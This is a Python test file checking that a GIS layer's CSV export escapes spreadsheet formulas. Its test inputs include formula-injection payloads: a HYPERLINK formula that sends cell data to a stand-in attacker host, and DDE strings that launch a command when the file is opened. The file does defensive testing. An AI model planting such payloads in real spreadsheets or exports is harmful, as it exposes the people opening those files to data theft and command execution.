"""Issue 13 finding 6: CSV exports must not carry spreadsheet formulas as they came."""

import csv

from gis.spreadsheet import formula_safe_text
from layers.ingest import load_cases, mapping_from_dict
from layers.ingest.export import ExportFilter, export_layer
from tests.ingest.conftest import write_cases_csv

PLANTED = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
]


def test_csv_export_quotes_every_formula_and_keeps_the_text(iconn, tmp_path):
    path = write_cases_csv(tmp_path / "f.csv", [{"descriptor": text} for text in PLANTED])
    raw = {
        "layer": "cases",
        "source": "formula-x",
        "categories": {"Graffiti": "E0202"},
        "columns": {
            "source_id": "unique_key",
            "lon": "longitude",
            "lat": "latitude",
            "category": "category",
            "reported_at": "created_date",
            "description": "descriptor",
        },
    }
    load_cases(path, mapping_from_dict(raw), conn=iconn, commit=False)
    result = export_layer(
        "cases", tmp_path / "out.csv", conn=iconn, filters=ExportFilter(source="formula-x")
    )
    with result.path.open(newline="") as f:
        descriptions = [row["description"] for row in csv.DictReader(f)]
    assert sorted(descriptions) == sorted("'" + text for text in PLANTED)
    assert not any(d.startswith(("=", "+", "-", "@")) for d in descriptions)


def test_numbers_and_plain_text_stay_as_they_are():
    assert formula_safe_text("-12.5") == "-12.5"
    assert formula_safe_text("+8613912345678") == "+8613912345678"
    assert formula_safe_text("a = b") == "a = b"
    assert formula_safe_text(7) == 7
    assert formula_safe_text("\t=1") == "'\t=1"
    assert formula_safe_text("＝1+1") == "'＝1+1"
